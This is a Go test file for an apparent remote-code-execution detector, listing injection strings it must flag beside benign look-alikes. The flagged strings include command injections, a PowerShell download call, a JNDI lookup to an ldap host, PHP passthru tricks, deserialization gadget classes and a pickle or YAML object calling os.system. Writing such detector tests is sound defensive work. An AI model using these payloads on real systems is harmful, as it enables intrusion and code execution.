package detect

import "testing"

// TestRCEFamilies: each way by which a value becomes a command or code, and
// beside it what only looks like it.
func TestRCEFamilies(t *testing.T) {
	caught := func(in string) {
		t.Helper()
		if fd := judgeOne(judgeOf(RCE), kindParam, in); fd.score < thresholds[Balanced] {
			t.Errorf("%q: score %d by %q", in, fd.score, fd.rule)
		}
	}
	passes := func(in string) {
		t.Helper()
		if fd := judgeOne(judgeOf(RCE), kindParam, in); fd.score >= thresholds[Balanced] {
			t.Errorf("%q: score %d by %q", in, fd.score, fd.rule)
		}
	}

	// Commands that run, read or fetch through another program.
	caught("5; dig files.example")
	caught("5; sudo -l")
	caught("5; timeout 9 whoami")
	caught("5; busybox uname")
	caught("5; more *")
	caught("& tool.exe")
	caught("; Start-Process tool")
	caught("; (New-Object Net.WebClient).DownloadFile('http://files.example/a','b')")
	caught("& msbuild task.xml")
	passes("sudo is for administrators")
	passes("winword.exe; excel.exe; outlook.exe")
	passes("Start-Up and Add-On")

	// Names that a substitution without output holds together.
	caught("; una$()me")
	caught("; una`k`me")
	caught("; nslookup `hostname`.files.example")
	passes("press `k` or `esc`")
	passes("it writes `lock.json` if set to `false`")
	passes("Use `ls -l` to see whether it is there.")
	passes("```bash\ncurl -O https://files.example/a.tgz\ntar xf a.tgz\n```")

	// Names from variables and from pieces.
	caught("k;a=who;b=ami;$a$b")
	caught("upti''me")
	caught("; expr 7 '*' 191")
	caught("; Get-Process")
	passes("a=5;b=6;c=7")
	passes("$a$b")

	// What posts about code are full of.
	passes("git log --oneline --decorate=short")
	passes("$ python -m requests.help")
	passes("Install it with `pip install -r requirements.txt`.")
	passes("hg update default\nhg add k\nhg commit -m 'k'")
	passes("cp a.go b.go\nrm -f c.go\nmv d.go e.go")
	passes("{term}`source <Source>` and :ref:`date <Date>`")
	passes("You can download & install **`k`** from [k](https://w.example/)")
	caught("k; git clone https://files.example/k")

	// Words, keywords and signs that only look like commands.
	passes("pass'w'd")
	passes("pkg syscall (freebsd), const k = 5")
	passes("File \"/audio/k/hifi.conf\"")
	passes("COMMAND ${CMAKE_COMMAND} -E copy a b")
	passes("# RUN: cat k.bin | diff -u - k.bin")
	passes("- &version")
	passes(`stdout '\|\| true'`)
	passes("&#60;dir prefix=\"k\"&#62;")

	// A line of its own behind an address.
	caught("198.51.100.7\nid")
	caught("198.51.100.7%0auptime")
	passes("198.51.100.7\nlocalhost")
	passes("name\nid\ndate")

	// Functions of PHP between strings, and names put together.
	caught("'.passthru('uptime').'")
	caught("('pass'.'thru')('uptime')")
	caught("\"passthru\"('uptime')")
	caught("(system)(uptime)")
	caught("subprocess.run(['uptime'])")
	passes("'.join('a').'")
	passes("(a)(b)")
	passes("const util = require('../../lib/util.js')")
	passes("def __getitem__(self, key): return self.items[key]")

	// Expressions spelled past a filter.
	caught("<%= `uptime` %>")

	// Lookups of logging and text libraries.
	caught("${${date:'j'}ndi:ldap://files.example/a}")
	caught("${script:javascript:1+1}")
	caught("${dns:address|files.example}")
	caught("${java:version}")
	passes("${date:yyyy-MM-dd}")

	// Classes by which readers of objects run code.
	caught("javax.naming.ldap.Rdn")
	caught("com.sun.rowset.JdbcRowSetImpl")
	caught("System.Windows.Data.ObjectDataProvider, PresentationFramework")
	caught("com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://files.example/a\";")
	passes("java.lang.NullPointerException")
	passes("com.example.shop.Order, with its items")
	passes("System.Windows.Forms.Button")

	// Objects inside other data.
	caught("k|O:7:\"Session\":0:{}")
	caught("s:1:\"k\";O:7:\"Session\":0:{}")
	caught("HexMap:aced00057372000f")
	caught("\x80\x04\x95\x20\x00\x8c\x05posix\x94\x8c\x06system\x94")
	caught("a: !!python/object/apply:os.system ['uptime']")
	passes("TODO:5:\"name\"")
	passes("facedc0ffee0005")

	// Programs.
	caught("process.exit()")
	caught("vm.runInNewContext('1')")
	passes("The process.exit() call ends the program; we do not use it in our own code, it hides errors")
}

// TestBase64Odd: base64 of a value with a NUL, and of a pickle, is decoded.
func TestBase64Odd(t *testing.T) {
	f := func(in string, want bool) {
		t.Helper()
		if got := maybeBase64([]byte(in)); got != want {
			t.Errorf("%q: %v", in, got)
		}
	}
	f("PHMAY3JpcHQ+eDwv", true)
	f("gASVBQAAAAAAAAA=", true)
	f("AAAAAAAAAAAAAAAA", false)
	f("kJ8s0aXbQ9zz1234", false)
}
